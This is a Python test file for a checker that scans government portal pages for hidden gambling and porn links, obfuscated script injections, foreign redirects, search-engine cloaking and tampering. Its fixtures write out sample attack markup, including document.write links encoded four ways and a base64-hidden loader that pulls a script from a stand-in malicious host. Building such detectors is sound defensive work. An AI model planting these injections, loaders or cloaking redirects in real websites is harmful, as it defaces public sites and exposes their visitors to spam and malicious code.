"""W.VETO.SECURITY: candidates for dark links, injections, redirects, cloaking, tampering."""

from __future__ import annotations

import base64
import json

from xuncha.checks.base import REGISTRY
from xuncha.checks.security import HostJudge, key_page_fingerprint, registrable, spam_host
from xuncha.model import Attachment, Column, TextSegment

from ._helpers import (
    CODE,
    HOME,
    ctx,
    doc,
    fixture,
    home,
    kinds,
    page,
    run,
    run_home,
    snapshot,
    u,
)


def _all_candidates(found: list) -> None:
    for f in found:
        assert f.code == CODE and f.severity == "veto" and f.needs_confirmation
        json.dumps(f.to_dict(), ensure_ascii=False)


# --------------------------------------------------------------------------- realistic pages
def test_legitimate_portal_has_no_findings() -> None:
    # dropdown menus and tab panels hiding same-site and gov links, skip links, a visible
    # 友情链接 list with non-gov hosts, a hidden tongji iframe, conac/cnzz/baidu scripts,
    # a mobile redirect to m.example.gov.cn and an anti-gambling notice
    found = run(ctx(snapshot([home(fixture("legit_home.html"))])))
    assert found == []


def test_hacked_portal_candidates() -> None:
    found = run(ctx(snapshot([home(fixture("hacked_home.html"))])))
    _all_candidates(found)
    by_kind: dict[str, list] = {}
    for f in found:
        by_kind.setdefault(str(f.detail["kind"]), []).append(f)
    assert sorted(by_kind) == ["dark_link", "hidden_iframe", "injected_meta", "redirect"]
    dark = [f.evidence for f in by_kind["dark_link"]]
    assert dark[0].startswith('首页第1个隐藏区块（style="display:none"）内含外链「澳门新葡京」→ www.xpj-example.com')
    assert "命中赌博词「澳门新葡京」" in dark[0]
    assert dark[1].startswith("首页第2个隐藏区块（样式规则「#hl{position:absolute;left:-999px}」）内含外链「成人视频」→ www.porn-example.net")
    assert "「便宜机票」→ www.cheap-example.com" in dark[1]  # hidden + foreign is enough, spam or not
    assert "「澳门金沙」→ www.amjs-example.com" in dark[2] and "由脚本（document.write）写入，经unescape/%XX 转义" in dark[2]
    assert by_kind["hidden_iframe"][0].detail["links"][0]["host"] == "www.evil-example.com"
    red = by_kind["redirect"][0]
    assert red.detail["host"] == "www.jump-example.com" and "来访来源（Referer）" in red.evidence
    title = next(f for f in by_kind["injected_meta"] if f.detail["field"] == "标题")
    assert "访客看不到被篡改的标题" in title.evidence
    # the visible friendly link to a non-gov bank is not a finding
    assert "example-rcu" not in json.dumps([f.to_dict() for f in found], ensure_ascii=False)


# --------------------------------------------------------------------------- dark links
def test_hidden_same_site_and_gov_links_are_not_findings() -> None:
    body = (
        '<div style="display:none"><a href="/zwgk/">政务公开</a><a href="http://zwfw.example.gov.cn/">服务</a>'
        '<a href="https://www.gov.cn/">中国政府网</a><a href="http://www.other.gov.cn/">兄弟单位</a></div>'
        '<div style="position:absolute;left:-9999px"><a href="https://weibo.com/x">微博</a></div>'
    )
    assert run_home(body) == []


def test_hidden_foreign_link_is_a_finding_without_spam_words() -> None:
    found = run_home('<div id="x" style="width:0;height:0;overflow:hidden"><a href="http://www.seo-example.com/">机票</a></div>')
    assert kinds(found) == ["dark_link"]
    assert found[0].evidence == '首页第1个隐藏区块（style="width:0;height:0;overflow:hidden"）内含外链「机票」→ www.seo-example.com'
    assert found[0].detail["how"] == "zero_size" and found[0].detail["element"] == "div#x"


def test_dropdown_tab_with_foreign_non_spam_link_is_ui_not_a_finding() -> None:
    head = "<style>.nav li ul{display:none}.nav li:hover ul{display:block}.tc{display:none}.tc.on{display:block}</style>"
    body = (
        '<ul class="nav"><li><a href="/a">链接</a><ul><li><a href="http://www.bank-example.com/">合作银行</a></li></ul></li></ul>'
        '<div class="tc on"><a href="/1">一</a></div><div class="tc"><a href="http://www.tv-example.com/">电视台</a></div>'
    )
    assert run_home(body, head) == []
    # ... but a spam link inside a revealable menu still is one
    body2 = body.replace("合作银行", "澳门新葡京")
    found = run_home(body2, head)
    assert kinds(found) == ["spam_link"] and "鼠标悬停或聚焦时显示" in found[0].evidence


def test_visible_spam_link_by_text_or_host() -> None:
    found = run_home('<a href="http://www.some-example.com/">百家乐真人娱乐</a><a href="http://casino-example.com/">点击</a>')
    assert kinds(found) == ["spam_link", "spam_link"]
    assert "命中赌博词「百家乐」" in found[0].evidence
    assert "赌博域名词「casino」" in found[1].evidence


def test_visible_foreign_friend_links_are_not_findings() -> None:
    body = '<div class="yqlj">友情链接：<a href="http://www.example-bank.com/">银行</a><a href="http://www.museum-example.org/">博物馆</a></div>'
    assert run_home(body) == []


def test_same_dark_block_on_many_pages_is_reported_once() -> None:
    block = '<div style="display:none"><a href="http://www.xpj-example.com/">澳门新葡京</a></div>'
    pages = [home(doc(block))] + [page(f"col{i}/", doc(block), role="column") for i in range(3)]
    found = run(ctx(snapshot(pages), columns=[Column(name="工作动态", url=u("col0/"))]))
    assert len(found) == 1 and found[0].detail["page_count"] == 4
    assert found[0].evidence.endswith("另有 3 个页面存在相同问题")


def test_dark_links_in_same_site_script_file() -> None:
    js = "document.write('<div style=\"display:none\"><a href=\"http://www.bad-example.com/\">六合彩</a></div>');"
    pages = [
        home(doc('<script src="/js/common.js"></script>')),
        page("js/common.js", js, role="script", content_type="application/javascript"),
    ]
    found = run(ctx(snapshot(pages)))
    assert kinds(found) == ["dark_link"] and "www.bad-example.com" in found[0].evidence


# --------------------------------------------------------------------------- scripts, iframes
def test_script_written_links_in_four_encodings() -> None:
    link = '<a href="http://www.inject-example.com/">优惠</a>'
    b64 = base64.b64encode(link.encode()).decode()
    codes = {
        "unescape": "document.write(unescape('" + "".join(f"%{b:02X}" for b in link.encode()) + "'))",
        "hex": "document.write('" + "".join(f"\\x{ord(c):02x}" if ord(c) < 128 else c for c in link) + "')",
        "base64": f"document.write(atob('{b64}'))",
        "charcode": "document.write(String.fromCharCode(" + ",".join(str(ord(c)) for c in link) + "))",
    }
    for enc, js in codes.items():
        found = run_home(f"<p>正文</p><script>{js}</script>")
        assert kinds(found) == ["script_link"], enc
        assert "www.inject-example.com" in found[0].evidence and "由脚本（document.write）写入，经" in found[0].evidence
        assert enc in found[0].detail["links"][0]["encodings"]
    # a plain (unencoded) document.write of a visible foreign link is ordinary page building
    assert run_home(f"<script>document.write('{link}')</script>") == []


def test_hidden_iframe_foreign_vs_tongji() -> None:
    found = run_home('<iframe src="http://www.ad-example.com/x.html" style="display:none"></iframe>')
    assert kinds(found) == ["hidden_iframe"] and 'style="display:none"' in found[0].evidence
    assert run_home('<iframe src="https://hm.baidu.com/x" width="0" height="0"></iframe>') == []
    assert run_home('<iframe src="/inner.html" width="0" height="0"></iframe>') == []
    assert run_home('<iframe src="http://www.map-example.com/" width="600" height="400"></iframe>') == []


def test_obfuscated_foreign_script_include() -> None:
    js = "var s=document.createElement('script');s.src=atob('" + base64.b64encode(b"http://www.mal-example.com/x.js").decode() + "');document.body.appendChild(s);"
    found = run_home(f"<script>{js}</script>")
    assert kinds(found) == ["script_src"] and "www.mal-example.com" in found[0].evidence


# --------------------------------------------------------------------------- redirects
def test_meta_refresh_and_js_redirects() -> None:
    foreign = run_home("", '<meta http-equiv="refresh" content="0;url=http://www.jump-example.com/">')
    assert kinds(foreign) == ["redirect"] and "<meta refresh> 自动跳转至外部网站 http://www.jump-example.com/" in foreign[0].evidence
    assert run_home("", '<meta http-equiv="refresh" content="0;url=/index.shtml">') == []
    assert run_home("", '<meta http-equiv="refresh" content="0;url=https://www.province.gov.cn/">') == []
    js = run_home("<script>location.replace('http://www.jump-example.com/')</script>")
    assert kinds(js) == ["redirect"] and "脚本跳转" in js[0].evidence
    assert run_home("<script>window.location.href='/new/index.html'</script>") == []
    found = run(ctx(snapshot([home('<html><body onload="location.href=\'http://www.jump-example.com/\'">x</body></html>')])))
    assert kinds(found) == ["redirect"] and found[0].detail["redirect"] == "onload"


def test_http_redirect_of_home_to_foreign_host() -> None:
    h = home(doc("<p>广告</p>"), final_url="http://www.jump-example.com/", redirects=[HOME])
    found = run(ctx(snapshot([h])))
    assert kinds(found) == ["redirect"] and "服务器重定向" in found[0].evidence


# --------------------------------------------------------------------------- cloaking
def _cloak(html: str, **kw: object):
    return page("", html, role="cloak", referrer=HOME, **kw)


def test_cloaking_extra_gambling_links_and_title() -> None:
    normal = doc('<a href="/zwgk/">政务公开</a>')
    spider = doc(
        '<a href="/zwgk/">政务公开</a><a href="http://www.xpj-example.com/">澳门新葡京</a><a href="http://www.bet-example.com/">体育投注</a>',
        title="澳门新葡京娱乐_示例市",
    )
    found = run(ctx(snapshot([home(normal)], cloaked=[_cloak(spider)])))
    assert kinds(found) == ["cloaking"]
    ev = found[0].evidence
    assert ev.startswith("以搜索引擎身份（Baiduspider，来源为百度搜索结果页）访问首页时内容与正常访问不同")
    assert "标题为「澳门新葡京娱乐_示例市」（正常访问为「示例市人民政府门户网站」）" in ev
    assert "多出外链「澳门新葡京」→ www.xpj-example.com" in ev
    assert found[0].detail["title"] == "澳门新葡京娱乐_示例市"


def test_cloaking_same_content_blocked_or_failed_is_silent() -> None:
    normal = doc('<a href="/zwgk/">政务公开</a><a href="http://www.example-bank.com/">银行</a>')
    assert run(ctx(snapshot([home(normal)], cloaked=[_cloak(normal)]))) == []
    blocked = _cloak("<html>安全验证</html>", status=403, blocked="forbidden")
    failed = _cloak("", status=None, error="timeout")
    assert run(ctx(snapshot([home(normal)], cloaked=[blocked, failed]))) == []


def test_cloaking_redirect_for_spiders() -> None:
    spider = _cloak(doc("赌场"), final_url="http://www.jump-example.com/", redirects=[HOME])
    found = run(ctx(snapshot([home(doc("正常"))], cloaked=[spider])))
    assert kinds(found) == ["cloaking"] and "被重定向至外部网站 http://www.jump-example.com/" in found[0].evidence


# --------------------------------------------------------------------------- injected meta
def test_injected_keywords_and_description() -> None:
    head = '<meta name="Keywords" content="示例市,六合彩开奖"><meta name="description" content="正常描述">'
    found = run_home("", head)
    assert kinds(found) == ["injected_meta"]
    assert found[0].evidence == "首页的关键词（keywords）命中赌博词「六合彩开奖」：「示例市,六合彩开奖」"
    assert run_home("", '<meta name="keywords" content="示例市,政务公开">') == []


# --------------------------------------------------------------------------- baseline
def _site(home_body: str, col_title: str = "工作动态_示例市") -> list:
    return [
        home(doc(home_body)),
        page("gzdt/", doc('<a href="/gzdt/1.html">动态</a>', title=col_title), role="column"),
        page("gzdt/1.html", doc("正文"), role="detail"),
    ]


def test_fingerprint_shape() -> None:
    body = '<a href="/x">x</a><a href="https://www.gov.cn/">国</a><a href="http://www.example-bank.com/">银行</a><script src="https://hm.baidu.com/hm.js"></script>'
    fp = key_page_fingerprint(snapshot(_site(body)))
    json.dumps(fp, ensure_ascii=False)
    assert fp["version"] == 1 and fp["title"] == "示例市人民政府门户网站"
    assert sorted(fp["pages"]) == [HOME, u("gzdt/")]  # detail pages are not key pages
    assert fp["outbound_hosts"] == ["www.example-bank.com", "www.gov.cn"]
    assert fp["script_hosts"] == ["hm.baidu.com"]


def test_tampering_against_baseline() -> None:
    before = snapshot(_site('<a href="http://www.example-bank.com/">银行</a>'))
    baseline = key_page_fingerprint(before)
    # unchanged: silent; no baseline: silent
    assert run(ctx(before, baseline=baseline)) == []
    after_body = (
        '<a href="http://www.example-bank.com/">银行</a><a href="http://www.new-example.com/">新站</a>'
        '<a href="https://weibo.com/gov">微博</a><a href="http://www.other.gov.cn/">兄弟单位</a>'
        '<script src="http://cdn.evil-example.com/x.js"></script>'
    )
    after = snapshot(_site(after_body, col_title="被篡改的标题"))
    assert run(ctx(after)) == []
    found = run(ctx(after, baseline=baseline))
    _all_candidates(found)
    assert sorted(kinds(found)) == ["new_hosts", "new_script_hosts", "title_change"]
    ev = {f.detail["kind"]: f for f in found}
    assert ev["new_hosts"].detail["hosts"] == ["www.new-example.com"]  # weibo (allowed) and gov.cn are not new foreign hosts
    assert "与上次巡查（2025-03-01）相比，首页及重点页面新增外部域名 www.new-example.com（「新站」，首页）" in ev["new_hosts"].evidence
    assert ev["new_script_hosts"].detail["hosts"] == ["cdn.evil-example.com"]
    assert "标题由「工作动态_示例市」变为「被篡改的标题」" in ev["title_change"].evidence


def test_baseline_of_another_shape_is_ignored() -> None:
    snap = snapshot(_site("<p>x</p>"))
    assert run(ctx(snap, baseline={"version": 99})) == []
    assert run(ctx(snap, baseline={"version": 1, "pages": "bad"})) == []


# --------------------------------------------------------------------------- secret marks
def test_secret_marks_in_pages_and_attachments() -> None:
    att = Attachment(
        url=u("files/a.pdf"), source_url=HOME, link_text="关于某事项的通知",
        segments=[TextSegment("第1页", "机密★10年 关于……的通知")],
    )
    found = run(ctx(snapshot([home(doc("<p>秘密★1年</p><p>五星★评价</p>"))], attachments=[att])))
    assert kinds(found) == ["secret_mark", "secret_mark"]
    assert "首页出现密级标志「秘密★1年」" in found[0].evidence
    assert "附件「关于某事项的通知」" in found[1].evidence and "机密★10年" in found[1].evidence
    assert run_home("<p>保守秘密是每个公民的义务 ★</p>") == []


# --------------------------------------------------------------------------- plumbing
def test_hosts() -> None:
    j = HostJudge(snapshot([home(doc(""))]))
    assert j.is_site("zwfw.example.gov.cn") and not j.foreign("www.gov.cn")
    assert not j.foreign("s4.cnzz.com") and not j.foreign("hm.baidu.com") and not j.foreign("www.12345hotline-x.com")
    assert j.foreign("www.example-bank.com")
    assert registrable("a.b.example.com.cn") == "example.com.cn" and registrable("127.0.0.1") == "127.0.0.1"
    assert spam_host("www.bet365-x.com") and not spam_host("www.alphabet.com") and not spam_host("www.tibet.cn")


def test_no_home_page_is_silent_and_registered_docstring() -> None:
    assert run(ctx(snapshot([]))) == []
    spec = REGISTRY[CODE]
    assert spec.family == "security" and all(p in spec.doc for p in ("What:", "Why:", "Example:", "国办秘函〔2019〕19号"))


def test_truncated_visibility_is_reported_as_inconclusive(monkeypatch) -> None:
    from xuncha.extract import visibility

    monkeypatch.setattr(visibility, "QUERY_BUDGET", 1)
    found = run_home('<div class="x"><a href="http://www.seo-example.com/">机票</a></div>', "<style>.x{display:none}</style>")
    assert [f.severity for f in found] == ["inconclusive"]
    assert found[0].detail["reason"] == "visibility_truncated" and "无法完全判断" in found[0].evidence


def test_hidden_spam_link_to_the_site_itself() -> None:
    # parasite pages planted on the site's own domain, linked from a hidden block
    found = run_home('<div style="display:none"><a href="/news/xpj.html">澳门新葡京</a><a href="/zwgk/">政务公开</a></div>')
    assert kinds(found) == ["dark_link"]
    assert found[0].evidence.startswith('首页第1个隐藏区块（style="display:none"）内含链接「澳门新葡京」→ www.example.gov.cn')
    assert found[0].detail["link_count"] == 1
